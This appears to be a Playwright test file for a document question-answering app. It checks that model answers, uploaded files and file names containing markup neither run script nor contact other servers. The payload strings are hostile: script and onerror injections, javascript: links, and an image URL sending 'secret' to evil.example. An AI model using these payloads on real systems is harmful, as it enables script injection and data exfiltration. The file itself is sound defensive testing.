import type { Page } from "@playwright/test";
import { ask, expect, test, turn } from "./desk.ts";

const question = "Which file formats can I add?";
const hostile = [
  "A picture: ![stolen](https://evil.example/x.png?q=secret)",
  '<img src="https://evil.example/y.png" onerror="window.hacked = true">',
  '<img src=x onerror="window.hacked = true">',
  "<script>window.hacked = true; alert(1)</script>",
  '<iframe src="https://evil.example/frame"></iframe>',
  '<style>@import "https://evil.example/style.css";</style>',
  '<a href="javascript:window.hacked = true">harmless</a> and [harmless](javascript:window.hacked=true)',
  "Markdown and PDF can be added [1].",
  "[1]: https://evil.example/definition",
  "$\\href{javascript:alert(1)}{x}$ and $$\\includegraphics{https://evil.example/z.png}$$",
].join("\n\n");

/** Everything that must not happen, told in one list. Only what reaches the network or runs counts. */
function watch(page: Page, own: string): string[] {
  const seen: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(own) && !request.url().startsWith("data:")) seen.push(request.url());
  });
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) seen.push(message.text());
  });
  page.on("popup", (popup) => seen.push(`window: ${popup.url()}`));
  return seen;
}

const ran = (page: Page) => page.evaluate(() => "hacked" in window);

test("an answer full of traps runs nothing, asks no other server for anything, and its citation stays ours", async ({
  page,
  model,
  desk,
}) => {
  const seen = watch(page, desk.url);
  model.play({ text: hostile, pieceLength: 7 });
  await page.goto("/");

  await ask(page, question);

  const answer = turn(page, question);
  await expect(answer.getByRole("button", { name: "Show source 1" }).first()).toBeVisible();
  await expect(answer.getByRole("button", { name: "Copy", exact: true }).last()).toBeVisible();
  await expect(answer.locator("script, iframe, style, img, [onerror], [href^='javascript']")).toHaveCount(0);
  await expect(answer.getByRole("link", { name: "1" })).toHaveCount(0);
  for (const harmless of await answer.getByText("harmless").all()) await harmless.click();
  await page.reload();
  await expect(answer.getByRole("button", { name: "Show source 1" }).first()).toBeVisible();
  expect(await ran(page)).toBe(false);
  expect(seen).toEqual([]);
});

test("a document full of traps can be quoted and read without harm", async ({ page, library, desk }) => {
  const seen = watch(page, desk.url);
  const quoted = "Which lantern hangs in the lighthouse?";
  const content = `# Lighthouse\n\nThe lantern Fresnel hangs in the lighthouse.\n\n${hostile}`;
  const markdown = await library.add("lighthouse.md", content);
  const html = `<html><body><h1>Harbour</h1><p>The harbour has a mole.</p>${hostile}</body></html>`;
  const web = await library.add("harbour.html", html);
  await page.goto("/");

  await ask(page, quoted);
  await expect(turn(page, quoted)).toContainText("Fresnel");
  for (const id of [markdown, web]) {
    await page.goto(`/document/${id}`);
    await expect(page.getByRole("article").first()).toContainText(/lantern Fresnel|has a mole/);
    await expect(page.getByRole("article").locator("script, iframe, style, img, [onerror]")).toHaveCount(0);
  }

  expect(await ran(page)).toBe(false);
  expect(seen).toEqual([]);
});

test("a question, a title and a file name that look like markup are shown as they were written", async ({
  page,
  library,
  desk,
}) => {
  const seen = watch(page, desk.url);
  const markup = '<img src=x onerror="window.hacked=true">';
  await library.add(`${markup}.md`, `# ${markup.replace("<", "&lt;")}\n\nNothing.`);
  await page.goto("/");
  await ask(page, markup);
  await expect(page.getByRole("article")).toContainText(markup);
  await expect(page.getByRole("navigation", { name: "Conversations" })).toContainText(markup);

  await page.goto(`/library/${library.id}`);

  await expect(page.getByRole("table")).toContainText(markup);
  expect(await ran(page)).toBe(false);
  expect(seen).toEqual([]);
});
